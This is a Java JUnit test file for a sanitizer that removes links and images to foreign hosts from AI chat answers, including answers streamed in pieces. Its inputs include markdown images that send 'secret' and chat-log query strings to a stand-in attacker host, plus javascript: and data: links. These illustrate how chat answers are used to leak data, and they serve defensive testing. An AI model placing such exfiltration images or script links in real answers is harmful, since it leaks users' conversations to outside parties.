package dev.ragstream.query.chat;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;

class AnswerLinksTest {

    private static final Set<String> OURS = Set.of("https://docs.example.com:443");

    @Test
    void keepsLinksAndImagesOfTheTenantsOwnOriginsAndCitations() {
        String answer = "See [the guide](https://docs.example.com/guide#returns) and ![chart](https://DOCS.example.com/c.png) [1][2].";
        assertThat(AnswerLinks.clean(answer, OURS)).isEqualTo(answer);
    }

    @Test
    void foreignImagesAutolinksAndUrlsGoAndForeignLinksBecomeTheirText() {
        String answer = "Hi ![x](https://evil.example/steal?q=secret) [click](http://evil.example/a \"t\") <https://evil.example/b>"
                + " visit https://evil.example/c?d=1 or //evil.example/e [1]";
        assertThat(AnswerLinks.clean(answer, OURS)).isEqualTo("Hi  click  visit  or  [1]");
    }

    @Test
    void dangerousSchemesAndOtherPortsOfOurHostGoRelativeLinksStay() {
        assertThat(AnswerLinks.clean("[a](javascript:alert(1)) [b](data:text/html,x) [c](/faq) [d](#top)"
                + " [e](https://docs.example.com:8443/x)", OURS)).isEqualTo("a) b [c](/faq) [d](#top) e");
    }

    @Test
    void aStreamedAnswerIsCleanedTheSameWhereverItsPiecesBreak() {
        String answer = "Returns take 14 days [1]. ![pixel](https://evil.example/p?c=chat%20log) Details: "
                + "[policy](https://docs.example.com/returns \"Returns\") and https://evil.example/x end.";
        String whole = AnswerLinks.clean(answer, OURS);
        for (int size = 1; size <= 9; size++) {
            AnswerLinks.Guard guard = new AnswerLinks.Guard(OURS);
            StringBuilder streamed = new StringBuilder();
            for (int i = 0; i < answer.length(); i += size) {
                streamed.append(guard.accept(answer.substring(i, Math.min(answer.length(), i + size))));
            }
            streamed.append(guard.finish());
            assertThat(streamed.toString()).as("pieces of %d characters", size).isEqualTo(whole);
            assertThat(streamed.toString()).doesNotContain("evil.example");
        }
    }

    @Test
    void originsNormaliseSchemeHostAndDefaultPort() {
        assertThat(AnswerLinks.origin("https://Docs.Example.com/a/b?c")).isEqualTo("https://docs.example.com:443");
        assertThat(AnswerLinks.origin("http://docs.example.com:8080/")).isEqualTo("http://docs.example.com:8080");
        assertThat(AnswerLinks.origin("ftp://docs.example.com/")).isNull();
    }
}
